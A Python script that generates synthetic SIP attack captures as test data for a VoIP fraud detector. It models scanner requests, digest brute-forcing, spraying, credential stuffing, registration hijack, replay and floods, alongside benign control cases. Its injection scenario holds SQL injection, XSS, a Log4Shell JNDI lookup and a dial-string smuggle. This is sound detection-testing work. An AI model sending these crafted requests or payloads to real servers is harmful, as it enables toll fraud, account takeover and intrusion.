#!/usr/bin/env python3
"""Writes the attack stories of testdata/fraud: message by message, SIP only. Usage: fraud_attacks.py OUTDIR [NAME...].

Deterministic. Requests of sipvicious and sippts are built here as their sources build them (recorded: fraud_sipvicious.py)
(order of fields, branch, Call-ID, tag, Contact, User-Agent). Digest responses are computed."""
import random
import sys

from office import PBX, REALM, STYLES, T0, TRUNK, MONITOR, Office, Phone, Wire, challenge, digest, md5, people, reply

SERVER = "198.51.100.10"  # the registrar that is reached from outside
EVIL, EVIL2 = "45.148.10.66", "193.107.216.9"
STORIES = {}


def story(name):
    def keep(function):
        STORIES[name] = function
        return function
    return keep


class Vicious:
    """As SIPVicious 0.3 builds requests (svhelper makeRequest)."""

    def __init__(self, wire, source, port=5060, agent="friendly-scanner", via="127.0.0.1"):
        self.wire, self.source, self.port, self.agent, self.via = wire, source, port, agent, via

    def tag(self, data):
        return (data + "\x01" + str(self.wire.rnd.getrandbits(32))).encode().hex()

    def request(self, method, host, extension=None, sender=None, to=None, auth=None, cseq=1, call_id=None, tag=None,
                contact="sip:123@1.1.1.1"):
        rnd = self.wire.rnd
        uri = "sip:%s" % host if extension is None or method == "REGISTER" else "sip:%s@%s" % (extension, host)
        out = ["%s %s SIP/2.0" % (method, uri), "Via: SIP/2.0/UDP %s:%d;branch=z9hG4bK-%d;rport" % (self.via, self.port, rnd.getrandbits(32)),
               "Max-Forwards: 70", "To: " + to, "From: %s;tag=%s" % (sender, tag), "User-Agent: " + self.agent,
               "Call-ID: " + (call_id or str(rnd.getrandbits(79))), "Contact: " + contact, "CSeq: %d %s" % (cseq, method),
               "Accept: application/sdp", "Content-Length: 0"] + ([auth] if auth else [])
        return "\r\n".join(out) + "\r\n\r\n"

    def options(self, t, host, answer=None):
        text = self.request("OPTIONS", host, "100", '"sipvicious"<sip:100@1.1.1.1>', '"sipvicious"<sip:100@1.1.1.1>',
                            tag=self.tag(host + ":5060"), contact="sip:100@%s:%d" % (self.via, self.port))
        self.wire.send(t, self.source, host, text, self.port, 5060)
        if answer:
            self.wire.send(t + 0.03, host, self.source, reply(text, answer), 5060, self.port)

    def war(self, t, host, user, answer, method="REGISTER"):
        name = '"%s"<sip:%s@%s>' % (user, user, host)
        text = self.request(method, host, user, name, name, tag=self.tag(user), contact="sip:%s@%s" % (user, host))
        self.wire.send(t, self.source, host, text, self.port, 5060)
        if answer:
            code, extra = answer, []
            if answer.startswith(("401", "407")):
                _, code, extra = challenge(self.wire, answer)
            self.wire.send(t + 0.02, host, self.source, reply(text, code, extra=extra), 5060, self.port)

    def crack(self, t, host, user, password, right, realm=REALM):
        """One guess: the challenge and the answer to it."""
        wire, name = self.wire, '"%s" <sip:%s@%s>' % (user, user, host)
        call_id, tag = str(wire.rnd.getrandbits(79)), self.tag("%s:%s" % (user, password))
        text = self.request("REGISTER", host, None, name, name, call_id=call_id, tag=tag, contact="sip:123@1.1.1.1")
        wire.send(t, self.source, host, text, self.port, 5060)
        nonce, code, extra = challenge(wire, qop=False)
        wire.send(t + 0.01, host, self.source, reply(text, code, extra=extra), 5060, self.port)
        uri = "sip:" + host
        auth = 'Authorization: Digest username="%s",realm="%s",nonce="%s",uri="%s",response="%s",algorithm=MD5' % (
            user, realm, nonce, uri, digest(user, password, realm, nonce, "REGISTER", uri))
        text = self.request("REGISTER", host, None, name, name, auth=auth, cseq=2, call_id=call_id, tag=tag)
        wire.send(t + 0.03, self.source, host, text, self.port, 5060)
        if right:
            answer = reply(text, "200 OK", extra=["Contact: <sip:123@1.1.1.1>;expires=3600"])
        else:
            _, code, extra = challenge(wire, qop=False)
            answer = reply(text, code, extra=extra)
        wire.send(t + 0.04, host, self.source, answer, 5060, self.port)


def sippts(wire, source, method, host, user, agent="pplsip", call=None, auth=None, cseq=1, port=None):
    port = port or wire.rnd.randrange(20000, 60000)
    branch = "".join(wire.rnd.choice("0123456789abcdefghijklmnopqrstuvwxyz") for _ in range(71))
    uri = "sip:%s@%s" % (call, host) if call else "sip:" + host
    out = ["%s %s SIP/2.0" % (method, uri), "Via: SIP/2.0/UDP %s:%d;branch=%s;rport" % (source, port, branch),
           "From:  <sip:%s@%s>;tag=%s" % (user, host, wire.hex(8)), "To:  <sip:%s@%s>" % (call or user, host),
           "Contact: <sip:%s@%s:%d;transport=UDP>;expires=120" % (user, source, port), "Call-ID: " + wire.hex(32),
           "CSeq: %d %s" % (cseq, method), "Max-Forwards: 70", "Allow: INVITE, REGISTER, ACK, CANCEL, BYE, NOTIFY, OPTIONS",
           "User-Agent: " + agent] + ([auth] if auth else []) + ["Content-Length: 0"]
    return "\r\n".join(out) + "\r\n\r\n", port


def guess(wire, t, source, user, agent_style, right=False, missing=False, host=SERVER, password=None, port=None):
    """One login by a program that looks like a phone; missing: the account does not exist (404)."""
    phone = Phone(wire, user, source, port or 5060, agent_style, password=password)
    phone.call_id = agent_style.call_id(wire.rnd, source)
    uri, to, tag = "sip:" + REALM, "sip:%s@%s" % (user, REALM), agent_style.tag(wire.rnd)
    text = phone.request("REGISTER", uri, to, phone.call_id, 1, tag)
    wire.send(t, source, host, text, phone.port)
    if missing:
        wire.send(t + 0.02, host, source, reply(text, "404 Not Found"), 5060, phone.port)
        return
    phone.nonce, code, extra = challenge(wire, qop=agent_style.qop)
    wire.send(t + 0.02, host, source, reply(text, code, extra=extra), 5060, phone.port)
    text = phone.request("REGISTER", uri, to, phone.call_id, 2, tag, auth=phone.auth("Authorization", "REGISTER", uri))
    wire.send(t + 0.05, source, host, text, phone.port)
    if right:
        wire.send(t + 0.07, host, source, reply(text, "200 OK", extra=["Contact: %s;expires=3600" % phone.contact]), 5060, phone.port)
    else:
        _, code, extra = challenge(wire, qop=agent_style.qop)
        wire.send(t + 0.07, host, source, reply(text, code, extra=extra), 5060, phone.port)


def registered(wire, office, user="1001", address="81.20.30.7", style=0, times=6, start=0, every=1200):
    phone = Phone(wire, user, address, 5060, STYLES[style], expires=1800)
    for k in range(times):
        office.register(T0 + start + every * k, phone)
    return phone


# --- reconnaissance ------------------------------------------------------------------------------------------------

@story("svmap")
def svmap(wire, agent="friendly-scanner"):
    tool = Vicious(wire, EVIL, agent=agent)
    for i in range(30):
        tool.options(T0 + 0.2 * i, "198.51.100.%d" % (1 + i), "200 OK" if i in (9, 20) else None)


@story("svmap-renamed")
def svmap_renamed(wire):
    svmap(wire, "Linksys/SPA942-6.1.5")


@story("svmap-one-host")
def svmap_one(wire):
    Vicious(wire, EVIL).options(T0, SERVER, "200 OK")


@story("svwar")
def svwar(wire, agent="friendly-scanner", pace=0.05):
    office = Office(wire, SERVER)
    registered(wire, office)
    tool = Vicious(wire, EVIL, agent=agent)
    for n in range(1000, 1060):
        exists = n in (1001, 1004, 1017, 1033)
        tool.war(T0 + 600 + pace * (n - 1000), SERVER, str(n), "401 Unauthorized" if exists else "404 Not Found")


@story("svwar-slow-renamed")
def svwar_slow(wire):
    svwar(wire, "Grandstream GXP2160 1.0.9.132", 140)


@story("svwar-uniform")
def svwar_uniform(wire):
    tool = Vicious(wire, EVIL)
    for n in range(100, 160):
        tool.war(T0 + 0.1 * n, SERVER, str(n), "401 Unauthorized")


@story("sippts-invite")
def sippts_invite(wire):
    for k, user in enumerate(("100", "101", "200", "sales", "8000", "9000", "1234", "600")):
        text, port = sippts(wire, EVIL2, "INVITE", SERVER, "100", agent="Cisco-CP8861/12.1", call=user)
        wire.send(T0 + 7 * k, EVIL2, SERVER, text, port)
        if user == "8000":
            wire.send(T0 + 7 * k + 0.05, SERVER, EVIL2, reply(text, "180 Ringing"), 5060, port)
            wire.send(T0 + 7 * k + 3, SERVER, EVIL2, reply(text, "200 OK"), 5060, port)
        else:
            wire.send(T0 + 7 * k + 0.05, SERVER, EVIL2, reply(text, "404 Not Found"), 5060, port)


@story("nmap")
def nmap(wire):
    text = ("OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/UDP nm;branch=foo;rport\r\nFrom: <sip:nm@nm>;tag=root\r\nTo: <sip:nm2@nm2>\r\n"
            "Call-ID: 50000\r\nCSeq: 42 OPTIONS\r\nMax-Forwards: 70\r\nContent-Length: 0\r\nContact: <sip:nm@nm>\r\nAccept: application/sdp\r\n\r\n")
    wire.send(T0, EVIL, SERVER, text, 44123)
    wire.send(T0 + 0.02, SERVER, EVIL, reply(text, "404 Not Found"), 5060, 44123)


@story("distributed-scan")
def distributed_scan(wire):
    office = Office(wire, SERVER)
    for k in range(6):
        registered(wire, office, "10%02d" % (k + 1), "81.20.30.%d" % (7 + k), style=k % 3)
    n = 2000
    for k in range(12):
        tool = Vicious(wire, "91.200.%d.%d" % (k, 17 + k), agent="Avaya one-X Deskphone")
        for j in range(6):
            tool.war(T0 + 1800 * j + 151 * k, SERVER, str(n), "404 Not Found")
            n += 1


@story("monitor")
def monitor(wire):
    """No attack: a provider asks eight hosts by OPTIONS every minute."""
    office = Office(wire)
    for k in range(30):
        for i in range(8):
            office.options(T0 + 60 * k + 0.3 * i, "203.0.113.77", "198.51.100.%d" % (10 + i), "health", agent="Monitor/2.1")


# --- guessing ------------------------------------------------------------------------------------------------------

@story("svcrack")
def svcrack(wire, guesses=40, pace=0.3, agent="friendly-scanner"):
    office = Office(wire, SERVER)
    registered(wire, office, "1001")
    tool = Vicious(wire, EVIL, agent=agent)
    for k in range(guesses):
        tool.crack(T0 + 900 + pace * k, SERVER, "1001", str(100 + k), k == guesses - 1)


@story("wrong-password")
def wrong_password(wire):
    """No attack: a phone with a wrong password, every 30 s for an hour."""
    office = Office(wire, SERVER)
    phone = Phone(wire, "1005", "81.20.44.9", 5060, STYLES[1])
    for k in range(120):
        office.register(T0 + 30 * k, phone, password="wrong", ok=False)
    registered(wire, office)


@story("slow-guess")
def slow_guess(wire):
    """One guess every half to four minutes for five hours, from a program that looks like a phone."""
    office = Office(wire, SERVER)
    registered(wire, office, "1001", times=15)
    t = T0 + 200
    for k in range(130):
        guess(wire, t, EVIL2, "1001" if k % 3 else "1002", STYLES[2], password="g%d" % k)
        t += 30 + wire.rnd.random() * 200


@story("spraying")
def spraying(wire):
    office = Office(wire, SERVER)
    registered(wire, office)
    for word in range(2):
        for k in range(24):
            guess(wire, T0 + 300 + 120 * word + 4 * k, EVIL, str(1001 + 7 * k), STYLES[3], right=word == 1 and k == 11, password="Summer2025")


@story("stuffing")
def stuffing(wire):
    names = ["anna.berg", "tom", "j.doe", "sales", "m.rossi", "4930123401", "frontdesk", "peter.pan", "info", "k.lang", "4930123488", "hq", "lea.k", "admin2"]
    for k, name in enumerate(names):
        guess(wire, T0 + 11 * k, EVIL, name, STYLES[3], right=name == "frontdesk", missing=k % 3 == 1, password="leaked%d" % k)


@story("stuffing-distributed")
def stuffing_distributed(wire):
    """Thirty-five addresses, two names each, spread over nine hours; one of seventy fits."""
    office = Office(wire, SERVER)
    for k in range(10):
        registered(wire, office, "u%d" % k, "81.20.50.%d" % (10 + k), style=k % 3, times=10)
    bot = STYLES[3]
    for k in range(70):
        guess(wire, T0 + 460 * k, "5.%d.7.%d" % (100 + k % 35, 3 + k % 35), "user.%s" % md5(str(k))[:5], bot, right=k == 41,
              missing=k % 2 == 0, password="leak%d" % k)


@story("distributed-guess")
def distributed_guess(wire):
    office = Office(wire, SERVER)
    registered(wire, office, "1001", times=20)
    for k in range(32):
        guess(wire, T0 + 100 + 1300 * k + wire.rnd.random() * 400, "77.40.%d.5" % (k % 8), "1001", STYLES[k % 4], password="p%d" % k)


@story("outage")
def outage(wire):
    """No attack: 200 phones behind one address come back within 30 s after an outage."""
    office = Office(wire, SERVER)
    for k in range(200):
        phone = Phone(wire, str(3000 + k), "81.20.60.1", 20000 + k, STYLES[k % 3], nat="192.168.1.%d" % (10 + k))
        office.register(T0 + wire.rnd.random() * 30, phone)


@story("honest-mistakes")
def honest_mistakes(wire):
    """No attack: an old nonce refused without stale, two mistyped passwords, O'Brien, a wrong number or two."""
    office = Office(wire, SERVER)
    phone = registered(wire, office, "1001", times=3, every=4000)
    other = Phone(wire, "1002", "81.20.31.9", 5060, STYLES[3])
    for k in range(2):
        office.register(T0 + 20 * k, other, password="typo%d" % k, ok=False)
    office.register(T0 + 60, other)
    text = phone.request("OPTIONS", "sip:" + REALM, "sip:" + REALM, "ob1", 1, "ob").replace("From: <", 'From: "Conan O\'Brien" <')
    wire.send(T0 + 99, phone.address, SERVER, text, phone.port)
    wire.send(T0 + 99.01, SERVER, phone.address, reply(text, "200 OK"), 5060, phone.port)


# --- access --------------------------------------------------------------------------------------------------------

@story("hijack")
def hijack(wire):
    office = Office(wire, SERVER)
    phone = registered(wire, office, "1001", times=6)
    thief = Phone(wire, "1001", EVIL, 5071, STYLES[3])
    office.register(T0 + 3900, thief)
    office.register(T0 + 7300, phone)


@story("hijack-near-miss")
def hijack_near(wire):
    """No attack: the same phone, with its instance, moves to another network."""
    office = Office(wire, SERVER)
    phone = Phone(wire, "1001", "81.20.30.7", 5060, STYLES[3])
    who = '<sip:1001@%s:5060>;+sip.instance="<urn:uuid:00000000-0000-1000-8000-aabbccddeeff>"'
    for k in range(5):
        office.register(T0 + 1200 * k, phone, contact=who % phone.address)
    phone.address = phone.local = "46.114.9.9"
    for k in range(3):
        office.register(T0 + 6200 + 1200 * k, phone, contact=who % phone.address)


@story("deregistration")
def deregistration(wire):
    office = Office(wire, SERVER)
    for k in range(5):
        registered(wire, office, "100%d" % k, "81.20.3%d.7" % k, style=k % 3, times=2)
    for k in range(5):
        attacker = Phone(wire, "100%d" % k, EVIL, 5060, STYLES[3])
        office.register(T0 + 1500 + k, attacker, expires=0, contact="*")


@story("replay")
def replay(wire):
    office = Office(wire, SERVER)
    phone = Phone(wire, "1001", "81.20.30.7", 5060, STYLES[1])
    office.register(T0, phone)
    sniffed = None
    for _, _, packet in wire.packets:
        if b"Authorization: Digest" in packet and b"REGISTER" in packet:
            sniffed = packet[42:].decode()
    text = sniffed.replace(phone.contact, "<sip:1001@%s:5060>" % EVIL).replace("Via: SIP/2.0/UDP 81.20.30.7:5060;branch=z9hG4bK", "Via: SIP/2.0/UDP %s:5060;branch=z9hG4bKx" % EVIL)
    wire.send(T0 + 40, EVIL, SERVER, text)
    wire.send(T0 + 40.01, SERVER, EVIL, reply(text, "200 OK", extra=["Contact: <sip:1001@%s:5060>;expires=1800" % EVIL]))


@story("digest-leak")
def digest_leak(wire):
    office = Office(wire, SERVER)
    phone = registered(wire, office, "1001", "81.20.30.7", times=2)
    invite, port = sippts(wire, EVIL, "INVITE", phone.address, "500", call="1001", port=5060)
    t = T0 + 1500
    wire.send(t, EVIL, phone.address, invite)
    wire.send(t + 0.1, phone.address, EVIL, reply(invite, "180 Ringing", phone.style.agent, "pt"))
    wire.send(t + 4, phone.address, EVIL, reply(invite, "200 OK", phone.style.agent, "pt", ["Contact: " + phone.contact]))
    call_id = invite.split("Call-ID: ")[1].split("\r")[0]
    for cseq in (1, 2):
        if cseq == 2:
            phone.nonce, phone.nc = nonce, 0
        auth = phone.auth("Authorization", "BYE", "sip:500@" + EVIL).replace('realm="%s"' % REALM, 'realm="asterisk"') if cseq == 2 else None
        bye = phone.request("BYE", "sip:500@" + EVIL, "sip:500@" + EVIL, call_id, cseq, "pt", "abcd1234", auth=auth)
        wire.send(t + 9 + cseq, phone.address, EVIL, bye)
        nonce, code, extra = challenge(wire, "407 Proxy Authentication Required", "asterisk", qop=phone.style.qop)
        wire.send(t + 9.05 + cseq, EVIL, phone.address, reply(bye, code if cseq == 1 else "200 OK", extra=[e.replace("Proxy-Authenticate", "WWW-Authenticate") for e in extra] if cseq == 1 else []))


# --- floods and broken messages ------------------------------------------------------------------------------------

@story("register-flood")
def register_flood(wire):
    for k in range(1500):
        phone = Phone(wire, "1001", EVIL, 5060, STYLES[2])
        text = phone.request("REGISTER", "sip:" + REALM, "sip:1001@" + REALM, wire.hex(20), 1, wire.hex(8))
        wire.send(T0 + 0.02 * k, EVIL, SERVER, text)
        if k % 3 == 0:
            _, code, extra = challenge(wire)
            wire.send(T0 + 0.02 * k + 0.01, SERVER, EVIL, reply(text, code, extra=extra))


@story("distributed-flood")
def distributed_flood(wire):
    for k in range(1200):
        source = "%d.%d.%d.%d" % (20 + k % 150, k % 7, 9, 1 + k % 200)
        caller = Phone(wire, "anonymous", source, 5060, STYLES[2])
        text = caller.request("INVITE", "sip:100@" + SERVER, "sip:100@" + SERVER, wire.hex(20), 1, wire.hex(8))
        wire.send(T0 + 0.03 * k, source, SERVER, text)
        if k % 10 == 0:
            wire.send(T0 + 0.03 * k + 0.01, SERVER, source, reply(text, "503 Service Unavailable"))


@story("fuzzing")
def fuzzing(wire):
    caller = Phone(wire, "fuzz", EVIL, 5060, STYLES[2])
    for k in range(60):
        text = caller.request("INVITE", "sip:100@" + SERVER, "sip:100@" + SERVER, wire.hex(20), 1, wire.hex(8))
        text = [lambda s: s.replace("Content-Length: 0", "Content-Length: -1"), lambda s: s.replace("CSeq: 1", "CSeq: 99999999999"),
                lambda s: s.replace("Via: SIP/2.0/UDP", "Via: SIP/2.0/" + "A" * 40, 1).replace(";branch", ";;;branch="),
                lambda s: s.replace("From: <", 'From: "unclosed <'), lambda s: s.replace("To: <sip:", "To: <sip:%s" % ("%s" * 30)),
                lambda s: s.replace("Max-Forwards: 70", "Max-Forwards: 999999"), lambda s: s.replace("Call-ID", "X: " + "B" * 3000 + "\r\nCall-ID"),
                lambda s: s.replace("CSeq: 1 INVITE", "CSeq: INVITE"), lambda s: s.replace("INVITE sip:", "INVITE  sip:", 1)][k % 9](text)
        wire.send(T0 + 0.5 * k, EVIL, SERVER, text)
        if k % 2:
            wire.send(T0 + 0.5 * k + 0.01, SERVER, EVIL, reply(text, "400 Bad Request"))


@story("injection")
def injection(wire):
    office = Office(wire, SERVER)
    for k, (user, display) in enumerate((("' or 1=1 -- ", ""), ("1001%27%20UNION%20SELECT%201", ""), ("1001", "${jndi:ldap://x/a}"),
                                         ("1001", "<script>alert(1)</script>"), ("200&Local/0900123@out", ""))):
        caller = Phone(wire, "x", EVIL, 5060, STYLES[2])
        uri = "sip:%s@%s" % (user.replace(" ", "%20"), SERVER)
        text = caller.request("INVITE", uri, uri, wire.hex(20), 1, wire.hex(8))
        if display:
            text = text.replace("From: <", 'From: "%s" <' % display)
        wire.send(T0 + 5 * k, EVIL, SERVER, text)
        wire.send(T0 + 5 * k + 0.01, SERVER, EVIL, reply(text, "404 Not Found"))


@story("tdos")
def tdos(wire):
    office = Office(wire)
    desk = Phone(wire, "200", "192.168.10.51", 5060, STYLES[0])
    office.register(T0, desk)
    for k in range(5):
        office.call(T0 + 3600 * k + 100, None, "200", False, 6, 80, callee=desk)
    for k in range(90):
        office.call(T0 + 19000 + 2.0 * k, None, "200", False, 25, None, callee=desk, number="%d" % wire.rnd.randrange(1000, 99999))


@story("rtp-injection")
def rtp_injection(wire, evil=EVIL, call=True):
    """A call of eight seconds; from the third to the sixth a stranger sends audio into it."""
    office = Office(wire, SERVER)
    alice = registered(wire, office, "1001", "81.20.30.7", times=1)
    sdp = lambda host, port: "v=0\r\no=- 1 1 IN IP4 %s\r\ns=-\r\nc=IN IP4 %s\r\nt=0 0\r\nm=audio %d RTP/AVP 0\r\n" % (host, host, port)
    uri, t = "sip:1002@" + REALM, T0 + 100
    invite = alice.request("INVITE", uri, uri, "inj1", 1, "a", body=sdp(alice.address, 4000))
    wire.send(t, alice.address, SERVER, invite)
    wire.send(t + 0.1, SERVER, alice.address, reply(invite, "200 OK", extra=["Contact: <sip:1002@%s>" % SERVER], body=sdp(SERVER, 5000)))
    wire.send(t + 0.15, alice.address, SERVER, alice.request("ACK", uri, uri, "inj1", 1, "a", "as1"))
    def rtp(at, src, sport, dst, dport, ssrc, count):
        for k in range(count):
            head = bytes([0x80, 0]) + (k & 0xFFFF).to_bytes(2, "big") + (160 * k).to_bytes(4, "big") + ssrc.to_bytes(4, "big")
            wire.send(at + 0.02 * k, src, dst, head + b"\xff" * 160, sport, dport)
    rtp(t + 0.2, alice.address, 4000, SERVER, 5000, 0x1111, 400)
    rtp(t + 0.2, SERVER, 5000, alice.address, 4000, 0x2222, 400)
    rtp(t + 3, evil, 6000, alice.address, 4000, 0x3333, 150)
    bye = alice.request("BYE", uri, uri, "inj1", 2, "a", "as1")
    wire.send(t + 8.5, alice.address, SERVER, bye)
    wire.send(t + 8.6, SERVER, alice.address, reply(bye, "200 OK"))


@story("rtp-second-port")
def rtp_second_port(wire):
    """No attack: the second sender is the server itself, from another port."""
    rtp_injection(wire, SERVER)


if __name__ == "__main__":
    for name in sys.argv[2:] or STORIES:
        wire = Wire(sum(name.encode()))
        STORIES[name](wire)
        wire.write("%s/%s.pcap.xz" % (sys.argv[1], name))
